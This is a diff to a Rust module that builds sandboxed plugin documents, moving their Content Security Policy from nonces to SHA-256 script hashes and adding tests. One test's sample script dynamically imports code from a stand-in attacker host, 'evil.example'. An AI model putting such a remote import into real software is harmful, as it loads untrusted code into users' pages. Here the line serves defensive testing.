@@ -1,6 +1,7 @@
 //! The document that a view or a block runs in: an origin of its own, a policy of its own, and nothing but what is written into it.
 
-use data_encoding::BASE64URL_NOPAD;
+use data_encoding::BASE64;
+use sha2::{Digest, Sha256};
 
 use super::files::Files;
 
@@ -18,28 +19,33 @@ fn sdk(name: &str) -> Result<String, String> {
     Files::Bundled("sdk".to_owned()).text(name)
 }
 
-/// The document for a script of a plugin.
+/// The document for a script of a plugin. Its scripts are let through by their hashes (CSP 3): a nonce would let them import from
+/// anywhere.
 pub fn document(title: &str, script: &str, style: &str) -> Result<Document, String> {
-    let mut random = [0; 18];
-    getrandom::fill(&mut random).map_err(|why| format!("there is no randomness: {why}"))?;
-    let nonce = BASE64URL_NOPAD.encode(&random);
     let title = title.replace('&', "&amp;").replace('<', "&lt;");
+    let scripts = [inert(&sdk("fence.js")?), inert(&sdk("codex.js")?), inert(script)];
+    let [fence, codex, own] = &scripts;
     let html = format!(
         "<!doctype html>\n<html lang=\"en\"><meta charset=\"utf-8\"><title>{title}</title>\n<meta name=\"viewport\" content=\"width=device-width\">\n\
-         <script nonce=\"{nonce}\">{}</script>\n<style nonce=\"{nonce}\">{}</style>\n<style nonce=\"{nonce}\">{}</style>\n<body>\n<script nonce=\"{nonce}\">{}</script>\n\
-         <script nonce=\"{nonce}\" type=\"module\">{}</script>\n</body></html>\n",
-        inert(&sdk("fence.js")?),
+         <script>{fence}</script>\n<style>{}</style>\n<style>{}</style>\n<body>\n<script>{codex}</script>\n\
+         <script type=\"module\">{own}</script>\n</body></html>\n",
         inert(&sdk("codex.css")?),
         inert(style),
-        inert(&sdk("codex.js")?),
-        inert(script),
     );
+    let hashes: Vec<String> = scripts.iter().map(|text| format!("'{}'", hash_of(text))).collect();
     let policy = format!(
-        "sandbox allow-scripts; default-src 'none'; script-src 'nonce-{nonce}'; style-src 'unsafe-inline'; \
+        "sandbox allow-scripts; default-src 'none'; script-src {}; style-src 'unsafe-inline'; \
          img-src data: blob:; media-src data: blob:; font-src data:; connect-src 'none'; form-action 'none'; base-uri 'none'; \
-         frame-ancestors 'self'; require-trusted-types-for 'script'; trusted-types 'none'"
+         frame-ancestors 'self'; require-trusted-types-for 'script'; trusted-types 'none'",
+        hashes.join(" ")
     );
     Ok(Document { html, policy })
+}
+
+/// As a policy names a text. A browser reads every line end as `\n` before it looks.
+fn hash_of(text: &str) -> String {
+    let read = text.replace("\r\n", "\n").replace('\r', "\n");
+    format!("sha256-{}", BASE64.encode(&Sha256::digest(read.as_bytes())))
 }
 
 /// Text that cannot end the element that it is written into. In a script, `<\/script` means the same.
@@ -70,6 +76,16 @@ fn inert(text: &str) -> String {
 mod tests {
     #![allow(clippy::unwrap_used)]
     use super::*;
+
+    #[test]
+    fn a_script_is_let_through_by_its_hash_alone() {
+        let document = document("A", "import('http://evil.example')", "").unwrap();
+        assert!(!document.policy.contains("nonce") && !document.html.contains("nonce"));
+        assert!(document.policy.contains(&hash_of("import('http://evil.example')")));
+        // RFC 6234 has it of the empty text.
+        assert_eq!(hash_of(""), "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=");
+        assert_eq!(hash_of("a\r\nb\rc"), hash_of("a\nb\nc"));
+    }
 
     #[test]
     fn no_text_ends_its_element() {
